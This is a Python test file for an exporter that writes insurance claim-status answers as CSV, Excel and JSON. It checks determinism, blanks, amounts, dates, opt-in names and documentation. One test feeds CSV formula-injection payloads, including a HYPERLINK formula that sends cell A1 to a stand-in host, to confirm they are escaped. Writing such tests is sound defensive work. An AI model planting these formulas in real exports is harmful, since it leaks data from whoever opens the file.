"""Answers leave as files that other programs read rightly: nothing lost, nothing made up, nothing run as a formula."""

import csv
import io
import json
import re
import tempfile
import zipfile
from collections.abc import Sequence
from dataclasses import replace
from datetime import datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

import documents.answers_out
from documents.answer_columns import columns
from documents.answers_out import write_answers
from documents.table_out import FileFormat, TooMuchForExcel
from flows.answers import ClaimNotFound, ClaimState
from tests.documents.answered import Answered, not_found, paid

ANSWERS = (paid(), not_found())


def file_of(
    file_format: FileFormat, answers: Sequence[Answered] = ANSWERS, *, lines: bool = False, names: bool = False
) -> bytes:
    out = io.BytesIO()
    write_answers(answers, out, file_format, lambda category: f"<{category}>", lines=lines, names=names)
    return out.getvalue()


def csv_rows(contents: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(contents.decode("utf-8-sig"), newline="")))


def sheet_rows(contents: bytes) -> list[tuple[Any, ...]]:
    sheet = load_workbook(io.BytesIO(contents)).active
    assert sheet is not None
    return [tuple(cell.value for cell in row) for row in sheet.iter_rows()]


@pytest.mark.parametrize("file_format", FileFormat)
@pytest.mark.parametrize("lines", [False, True])
def test_the_same_answers_give_the_same_bytes_at_any_hour(
    file_format: FileFormat, lines: bool, monkeypatch: pytest.MonkeyPatch
) -> None:
    first = file_of(file_format, lines=lines, names=True)
    monkeypatch.setenv("TZ", "Pacific/Kiritimati")
    monkeypatch.setattr("time.time", lambda: 4_000_000_000.0)
    assert file_of(file_format, lines=lines, names=True) == first


def test_a_csv_row_holds_every_fact_and_blanks_stay_blank() -> None:
    answered, negative = csv_rows(file_of(FileFormat.CSV))
    assert answered == {
        "patient_account_number": "00017", "portal": "practice-national", "flow": "claim-status", "version": "2",
        "service_from": "2026-01-12", "service_to": "2026-01-13", "billed": "1234.50", "ending": "answered",
        "category": "F1", "meaning": "<F1>", "status_codes": "65; 104", "portal_text": "Processed – Paid",
        "payer_claim_number": "0026012345", "portal_account_number": "00017", "received_date": "2026-01-20",
        "finalised_date": "2026-02-01", "effective_date": "2026-02-02", "portal_billed": "1234.50",
        "allowed": "100.10", "paid": "0.00", "patient_responsibility": "20.00", "deductible": "", "coinsurance": "",
        "copay": "20.00", "noncovered": "", "payment_method": "EFT", "payment_number": "007788",
        "payment_date": "2026-02-03", "payment_amount": "512.00", "adjustments": "CO-45 -30.00; PR-3 20",
        "remark_codes": "N1; MA04", "related_claims": "original 0025000001",
        "requests": "Records (due 2026-04-01); Call us", "appeal_allowed": "no", "searched": "", "lines": "2",
        "observed_at": "2026-03-02T01:00:05Z", "recorded_at": "2026-03-02T01:00:05Z", "author": "robot",
        "pack_version": "7",
    }  # fmt: skip
    said = {name: text for name, text in negative.items() if text}
    assert said == {
        "patient_account_number": "00018", "portal": "practice-national", "flow": "claim-status", "version": "2",
        "service_from": "2026-01-12", "service_to": "2026-01-13", "billed": "1234.50", "ending": "negative",
        "searched": "by member; by claim number", "observed_at": "2026-03-02T01:00:05Z",
        "recorded_at": "2026-03-02T01:00:05Z", "author": "robot", "pack_version": "7",
    }  # fmt: skip


@pytest.mark.parametrize("file_format", FileFormat)
def test_names_go_only_when_they_are_asked_for(file_format: FileFormat) -> None:
    def text(*, names: bool) -> str:
        contents = file_of(file_format, names=names)
        return str(sheet_rows(contents)) if file_format is FileFormat.XLSX else contents.decode()

    for word in ("Muñoz-Ångström", "Zoë", "00MBR1", "1961"):
        assert word in text(names=True)
        assert word not in text(names=False)


def test_by_line_there_is_a_row_for_each_service_line() -> None:
    first, second = csv_rows(file_of(FileFormat.CSV, lines=True))
    assert first == {
        "patient_account_number": "00017", "portal": "practice-national", "flow": "claim-status", "version": "2",
        "line_number": "1", "payer_claim_number": "0026012345", "category": "F1", "procedure": "99213",
        "modifiers": "25; 59", "units": "1.5", "billed": "1000.00", "allowed": "", "paid": "",
        "adjustments": "CO-45 30.00", "remark_codes": "N130", "observed_at": "2026-03-02T01:00:05Z",
    }  # fmt: skip
    assert (second["line_number"], second["procedure"], second["paid"]) == ("2", "00100", "80.10")


def test_excel_sees_accents_in_a_csv_file_by_its_byte_order_mark() -> None:
    contents = file_of(FileFormat.CSV, names=True)
    assert contents.startswith(b"\xef\xbb\xbfpatient_account_number,")
    assert contents.count(b"\xef\xbb\xbf") == 1
    assert contents.count(b"\r\n") == 3


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "'"])
def test_no_text_of_a_portal_runs_as_a_formula_in_a_csv_file(start: str) -> None:
    text = f'{start}HYPERLINK("http://x.example"&A1,"x")'
    (row,) = csv_rows(file_of(FileFormat.CSV, [paid(portal_text=text)]))
    assert row["portal_text"] == f"'{text}"


@given(st.text(st.characters(codec="utf-8", exclude_characters="\x00"), max_size=30))
def test_whoever_takes_one_leading_apostrophe_away_has_the_text_as_it_was(text: str) -> None:
    (row,) = csv_rows(file_of(FileFormat.CSV, [paid(portal_text=text)]))
    assert row["portal_text"].removeprefix("'") == text


def test_a_negative_amount_is_a_number_and_no_formula() -> None:
    below = paid()
    state = below.answer.normalised
    assert isinstance(state, ClaimState)
    taken_back = below.answer.model_copy(update={"normalised": state.model_copy(update={"paid": Decimal("-80.1")})})
    (row,) = csv_rows(file_of(FileFormat.CSV, [replace(below, answer=taken_back)]))
    assert row["paid"] == "-80.10"


def test_a_sheet_keeps_zeros_amounts_and_dates_as_what_they_are() -> None:
    heading, answered, negative = sheet_rows(file_of(FileFormat.XLSX))
    cells = dict(zip(heading, answered, strict=True))
    assert cells["patient_account_number"] == "00017"
    assert cells["payer_claim_number"] == "0026012345"
    assert cells["payment_number"] == "007788"
    assert (cells["billed"], cells["paid"], cells["deductible"]) == (1234.5, 0, None)
    assert cells["service_from"] == datetime(2026, 1, 12)  # noqa: DTZ001 - a sheet has no time zones
    assert cells["appeal_allowed"] == "no"
    assert (cells["version"], cells["lines"]) == (2, 2)
    assert dict(zip(heading, negative, strict=True))["paid"] is None


@pytest.mark.parametrize("text", ["=1+1", "{=1+1}", "http://x.example/", "007", "1e5", ""])
def test_every_text_in_a_sheet_is_a_text(text: str) -> None:
    contents = file_of(FileFormat.XLSX, [paid(portal_text=text)])
    with zipfile.ZipFile(io.BytesIO(contents)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet
    assert "hyperlink" not in sheet
    heading, cells = sheet_rows(contents)
    shown = dict(zip(heading, cells, strict=True))["portal_text"]
    assert (shown or "") == text


def test_no_cell_is_cut_short_in_silence() -> None:
    with pytest.raises(TooMuchForExcel, match="Nothing was written"):
        file_of(FileFormat.XLSX, [paid(portal_text="x" * 32_768)])


def test_a_sheet_says_nothing_of_when_it_was_written() -> None:
    with zipfile.ZipFile(io.BytesIO(file_of(FileFormat.XLSX))) as archive:
        assert {entry.date_time for entry in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        core = archive.read("docProps/core.xml").decode()
    assert set(re.findall(r"\d{4}-\d\d-\d\dT[\d:]+Z", core)) == {"2000-01-01T00:00:00Z"}


@pytest.mark.parametrize("file_format", FileFormat)
def test_nothing_lies_in_the_clear_on_the_way(
    file_format: FileFormat, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path / "there is no such folder"))
    assert file_of(file_format)


def test_json_holds_every_fact_with_amounts_as_strings() -> None:
    contents = file_of(FileFormat.JSON, names=True)
    whole = json.loads(contents, parse_float=lambda number: pytest.fail(f"a floating-point number: {number}"))
    assert (whole["format"], whole["format_version"]) == ("portalwright-answers", 1)
    for written, answer in zip(whole["answers"], ANSWERS, strict=True):
        kind = type(answer.answer.normalised)
        assert kind in (ClaimState, ClaimNotFound)
        assert kind.model_validate_json(json.dumps(written["answer"])) == answer.answer.normalised
        assert written["patient_account_number"] == answer.number
        assert (written["flow"], written["version"], written["author"]) == ("claim-status", 2, "robot")
    assert whole["answers"][0]["answer"]["paid"] == "0"
    assert contents.count(b"\n") == len(ANSWERS) + 2


def test_no_answers_are_a_file_with_its_heading_alone() -> None:
    assert csv_rows(file_of(FileFormat.CSV, [])) == []
    assert len(sheet_rows(file_of(FileFormat.XLSX, []))) == 1
    assert json.loads(file_of(FileFormat.JSON, []))["answers"] == []


@pytest.mark.parametrize("lines", [False, True])
@pytest.mark.parametrize("names", [False, True])
def test_no_heading_stands_twice(lines: bool, names: bool) -> None:
    headings = [column.name for column in columns(lines=lines, names=names)]
    assert len(headings) == len(set(headings))


@pytest.mark.parametrize("lines", [False, True])
def test_the_documentation_names_every_column_in_its_order(lines: bool) -> None:
    page = (Path(documents.answers_out.__file__).parents[1] / "docs" / "files.md").read_text(encoding="utf-8")
    section = page.partition("### The columns by service line" if lines else "### The columns")[2].partition("\n#")[0]
    shown = re.findall(r"^\| `(\w+)` \|", section, re.MULTILINE)
    assert shown == [column.name for column in columns(lines=lines, names=True)]
